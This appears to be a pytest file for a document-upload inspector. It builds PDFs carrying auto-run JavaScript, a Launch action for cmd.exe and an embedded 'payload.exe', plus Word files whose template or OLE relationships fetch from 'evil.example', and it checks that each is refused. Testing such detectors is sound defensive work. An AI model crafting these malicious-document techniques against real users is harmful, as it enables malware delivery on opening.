"""Files that do something when they are opened are refused, like macros; what offices write is taken."""

import io

import pikepdf
import pytest

from portfolios.inspection import inspect
from tests.portfolios.makers import pdf_file, word_file


def verdict(kind, file):
    return inspect(kind, file.read())[0]["verdict"]


def action():
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def changed(change):
    """A PDF of one page after `change(document)`."""
    document = pikepdf.open(io.BytesIO(pdf_file()))
    change(document)
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def _runs_on_opening(document):
    document.Root.OpenAction = action()


def _runs_on_a_page(document):
    document.pages[0].obj.AA = pikepdf.Dictionary(O=action())


def _starts_a_program(document):
    link = pikepdf.Dictionary(
        Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    )
    document.pages[0].obj.Annots = pikepdf.Array([link])


def _hides_in_a_numbered_object(document):
    document.Root.Names = document.make_indirect(
        pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", document.make_indirect(action())]))
        )
    )


def _carries_a_file(document):
    document.attachments["payload.exe"] = b"MZ"


def _has_a_form_of_another_kind(document):
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"))


@pytest.mark.parametrize(
    "change",
    [
        _runs_on_opening,
        _runs_on_a_page,
        _starts_a_program,
        _hides_in_a_numbered_object,
        _carries_a_file,
        _has_a_form_of_another_kind,
    ],
)
def test_a_pdf_that_acts_or_carries_is_refused(change):
    assert verdict("pdf", io.BytesIO(changed(change))) == "active"


def test_a_pdf_with_links_a_title_and_bookmarks_is_taken():
    def ordinary(document):
        to = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://council.example/JS"))
        document.pages[0].obj.Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=to)])
        document.docinfo["/Title"] = "About /JS and /Launch"
        with document.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("First", 0))

    assert verdict("pdf", io.BytesIO(changed(ordinary))) == "ok"


def rels(kind, target):
    return (
        "word/_rels/settings.xml.rels",
        f'<?xml version="1.0"?><Relationships xmlns="urn:r"><Relationship Id="r1" TargetMode="External" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}"/></Relationships>'.encode(),
    )


@pytest.mark.parametrize(
    ("kind", "target", "found"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm", "active"),
        ("oleObject", "HTTP://evil.example/x.hta", "active"),
        ("attachedTemplate", "file:///C:/Users/kim/Normal.dotm", "ok"),
        ("hyperlink", "https://council.example/", "ok"),
    ],
)
def test_a_word_document_that_fetches_when_opened_is_refused(kind, target, found):
    assert verdict("word", io.BytesIO(word_file(extra=[rels(kind, target)]))) == found
